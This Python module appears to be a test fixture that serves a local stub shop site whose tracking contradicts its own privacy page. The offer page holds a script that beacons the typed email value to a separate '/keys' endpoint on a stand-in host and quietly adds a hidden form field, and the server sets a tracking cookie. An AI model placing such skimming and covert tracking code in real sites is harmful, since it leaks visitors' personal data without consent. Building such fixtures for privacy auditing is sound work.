"""A company's own site that does what its policy does not say."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ELSEWHERE = "localhost"  # another host than the one it is served at
HOME = """<!doctype html><html lang="en"><title>Shop</title>
<body><main><h1>Shop</h1><p>Welcome. Look at <a href="/offer">our offer</a> today.</p>
<img src="http://{elsewhere}/pixel.png" alt="A pixel"></main>
<footer><p>How we keep what you send: <a href="/privacy">privacy</a>.</p></footer></body></html>"""
OFFER = """<!doctype html><html lang="en"><title>Offer</title>
<body><main><h1>Offer</h1><img src="/fish.png"><form method="post" action="/offer">
<label>Your birthday <input name="bday" autocomplete="bday" type="date"></label>
<label>Your mail <input name="mail" type="email"></label>
<button>Send</button></form>
<script>document.querySelector("[name=mail]").addEventListener("input", event => {{
  navigator.sendBeacon("http://{elsewhere}/keys", event.target.value);
  event.target.form.insertAdjacentHTML("beforeend", '<input name="shoe_size" aria-label="Size">');
}}, {{once: true}});</script></main></body></html>"""
PRIVACY = """<!doctype html><html lang="en"><title>Privacy</title>
<body><main><h1>Privacy</h1><p>We keep what you send us. We keep it for a year.</p></main>
</body></html>"""


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        port = self.server.server_address[1]
        home = HOME.format(elsewhere=f"{ELSEWHERE}:{port}")
        offer = OFFER.format(elsewhere=f"{ELSEWHERE}:{port}")
        page = {"/": home, "/offer": offer, "/privacy": PRIVACY}.get(self.path)
        self.send_response(200 if page else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8" if page else "image/png")
        if self.path == "/offer":
            self.send_header("Set-Cookie", "_follows=1; Max-Age=864000; Path=/")
        self.end_headers()
        self.wfile.write((page or "").encode())

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def stub() -> Iterator[str]:
    """Serve it until the end of the block; its address."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
